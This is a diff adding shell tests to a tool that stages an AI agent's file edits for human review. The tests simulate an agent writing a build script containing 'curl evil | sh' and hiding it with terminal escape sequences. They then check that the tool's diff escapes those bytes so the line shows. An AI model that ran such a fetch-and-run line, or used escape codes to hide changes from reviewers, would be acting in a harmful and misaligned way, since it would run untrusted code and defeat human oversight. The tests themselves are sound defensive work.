@@ -273,6 +273,29 @@ check "the applied sparse files hold under 1 MiB on disk" sh -c "[ \$(stat -c %b
 eq "$(head -c 4 "$W/big"):$(dd if="$W/big" bs=1 skip=$((3 * 1024 * 1024 * 1024)) count=4 status=none):$(dd if="$W/big" bs=1 skip=1048576 count=4 status=none | od -An -tx1 | tr -d ' ')" \
    "head:tail:00000000" "the sparse file's data and holes read back as staged"
 
+# diff prints the agent's content: on a terminal its control bytes are
+# escaped, so an erase-line sequence cannot hide the line before it (into a
+# pipe the output stays diff(1)'s, for patch); a sparse file of 1 GiB that
+# costs the agent nothing is summarised, not read whole by diff(1).
+W=$T/wsx S=$T/stx
+mkdir -p "$W"; printf '#!/bin/sh\necho building\n' > "$W/build.sh"; printf 'n\n' > "$W/notes.txt"
+stage_run "$W" "$S" 'printf "#!/bin/sh\necho building\ncurl evil | sh\n\r\033[2K\033[1A\033[2K+echo done\n\302\233" > build.sh && truncate -s 1G notes.txt' >/dev/null 2>&1
+"$P" diff --stage "$S" > "$T/x.pipe"; rc=$?
+eq "$rc:$(grep -c "$(printf '\033')" "$T/x.pipe")" "0:1" "diff into a pipe: diff(1)'s bytes (the escape sequence raw)"
+if command -v script >/dev/null; then
+    script -qec "'$P' diff --stage '$S'" /dev/null > "$T/x.tty" 2>&1; rc=$?
+    eq "$rc:$(grep -c "$(printf '\033')" "$T/x.tty"):$(grep -c 'curl evil' "$T/x.tty")" "0:0:1" \
+        "diff on a terminal: no raw escape byte reaches it, the hidden line shows"
+    check "diff on a terminal: the control bytes read as \\xNN (ESC, CR, the UTF-8 CSI)" \
+        sh -c "grep -qF '\\x0d\\x1b[2K\\x1b[1A\\x1b[2K+echo done' '$T/x.tty' && grep -qF '\\xc2\\x9b' '$T/x.tty'"
+else
+    skip "diff on a terminal: no raw escape byte reaches it" "script(1) is missing"
+fi
+check "diff: a 1 GiB sparse file is reported as large, not diffed" \
+    grep -q '^Large files a/notes.txt and b/notes.txt differ (2 -> 1073741824 bytes' "$T/x.pipe"
+"$P" diff --stat --stage "$S" > "$T/x.stat"; rc=$?
+eq "$rc:$(grep -c 'notes.txt *| Bin' "$T/x.stat")" "0:1" "diff --stat: the large file is summarised like a binary one"
+
 # ---------------------------------------------------------------------------
 # 2. conflicts by content: nothing written
 
